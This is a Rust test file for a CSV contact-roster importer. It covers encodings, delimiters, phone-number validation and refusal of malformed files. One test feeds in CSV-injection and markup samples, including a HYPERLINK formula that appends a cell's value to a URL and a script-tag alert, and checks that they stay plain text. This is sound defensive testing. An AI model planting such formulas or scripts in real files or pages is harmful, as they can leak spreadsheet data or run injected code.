//! The sample uploads, each with what becomes of each of its lines.

use crate::support::{WHOLE, check, read};
use rollcall_roster::{Encoding, Line, open};

macro_rules! sample {
    ($name:literal) => {
        include_bytes!(concat!("../samples/", $name))
    };
}

const FOUR_PEOPLE: &str = "
    2 Ada|Example|+447700900101
    3 Grace|Sample|+447700900102
    4 Tomasz|Testowy|+447700900103
    5 José|Núñez|+447700900104";

#[test]
fn the_reference_form_in_every_encoding() {
    check(sample!("01-reference-form.csv"), FOUR_PEOPLE);
    check(sample!("02-crlf-no-final-newline.csv"), FOUR_PEOPLE);
    check(sample!("03-utf8-bom.csv"), FOUR_PEOPLE);
    check(sample!("04-utf16le-bom.csv"), FOUR_PEOPLE);
    check(sample!("06-utf16be-bom.csv"), FOUR_PEOPLE);
}

#[test]
fn windows_1252_is_read_as_such() {
    let bytes = sample!("07-windows-1252.csv");
    assert_eq!(read(bytes, WHOLE, 7).unwrap().layout.dialect.encoding, Encoding::Windows1252);
    check(
        bytes,
        "2 Zoë|O’Example|+447700900105
         3 Renée|“Bob” Sample|+447700900106
         4 Siân|Müller–Test|+447700900107",
    );
}

#[test]
fn semicolons_and_tabs() {
    check(
        sample!("08-semicolon-bom.csv"),
        "2 Jürgen|Beispiel|+447700900108
         3 Anna|Muster; geb. Probe|+447700900109",
    );
    check(sample!("09-tab.csv"), "2 Ada|Example|+447700900110");
}

#[test]
fn quoted_line_breaks_stay_in_their_row() {
    check(
        sample!("11-quoted-newlines-and-quotes.csv"),
        "2 Mary Ann|Example, MBE|+447700900112
         3 Bill \"Buster\"|Sample Junior|+447700900113
         4! name_missing",
    );
}

#[test]
fn formulas_and_markup_are_text() {
    check(
        sample!("12-csv-injection.csv"),
        r#"2 =HYPERLINK("http://example.org/?x="&A1,"click")|Example|+447700900115
           3 +1+1|Example|+447700900116
           4 -2+3|Example|+447700900117
           5 @SUM(A1:A9)|Example|+447700900118
           6 =1+1|Example|+447700900119
           7 =1+1|Example|+447700900120
           8 <script>alert(1)</script>|Example|+447700900121
           9 <speak><break time="10s"/></speak>|Example|+447700900122
           10 $.External.secret|Example|+447700900123"#,
    );
}

#[test]
fn each_awkward_number_is_decided() {
    check(
        sample!("14-bad-and-awkward-numbers.csv"),
        "2! too_short number
         3! not_a_number number
         4! scientific_notation number
         5 Row4|Example|+447700900301 ~number_repaired
         6! missing number
         7! missing number
         8! extension number
         9! emergency number
         10! premium_rate number
         11! too_long number
         12! impossible number
         13 Row12|Example|+447700900304 ~number_repaired
         14 Row13|Example|+447700900305 ~number_repaired
         15 Row14|Example|+447700900306 ~number_repaired
         16 Row15|Example|+447700900307 ~number_repaired
         17! several_numbers number
         18! not_a_number number
         19 Row18|Example|+447700900310 ~number_repaired
         20 Row19|Example|+12025550123
         21 Row20|Example|+12025550124
         22! impossible number
         23 Row22|Example|+447700900311 ~number_repaired
         24! decimal number
         25! not_a_number number",
    );
}

#[test]
fn no_rejection_quotes_the_row() {
    let read = read(sample!("14-bad-and-awkward-numbers.csv"), WHOLE, 1000).unwrap();
    for line in read.lines {
        if let Line::Rejected(note) = line {
            assert!(!note.reason.contains("Row") && !note.reason.contains("7700"), "{}", note.reason);
        }
    }
}

#[test]
fn files_without_what_is_needed_are_refused_in_plain_words() {
    let refusal = |bytes: &[u8]| open(bytes, true).unwrap_err().to_string();
    assert_eq!(
        refusal(sample!("15-missing-number-column.csv")),
        "no column holds the phone numbers: found firstName, lastName; a CSV file is expected whose first row names \
         the columns firstName, lastName and number"
    );
    let no_header = refusal(sample!("16-no-header.csv"));
    assert!(!no_header.contains("Ada") && !no_header.contains("7700"), "{no_header}");
    check(sample!("15-missing-number-column.csv"), "refused: no_number_column");
    check(sample!("16-no-header.csv"), "refused: no_header");
    check(sample!("20-header-only.csv"), "refused: header_only");
    check(sample!("21-empty.csv"), "refused: empty_file");
}

#[test]
fn columns_may_stand_in_any_order() {
    let bytes = sample!("17-reordered-case-and-spaces-header.csv");
    check(bytes, "2 Ada|Example|+447700900403");
    let read = read(bytes, WHOLE, 1000).unwrap();
    let Line::Row(row) = &read.lines[0] else { panic!("a row") };
    assert_eq!(row.profile.notes.as_deref(), Some("extra column"));
}

#[test]
fn ragged_and_blank_lines_cost_only_themselves() {
    check(
        sample!("19-ragged-rows.csv"),
        "2! too_few_fields
         3! too_many_fields
         4! empty_row
         5~ blank_line
         6~ blank_line
         7 Alan|Test|+447700900407",
    );
}

#[test]
fn a_very_long_field_is_rejected_with_its_row() {
    check(
        sample!("25-very-long-field.csv"),
        "2! name_too_long firstName
         3 Grace|Sample|+447700900414",
    );
}
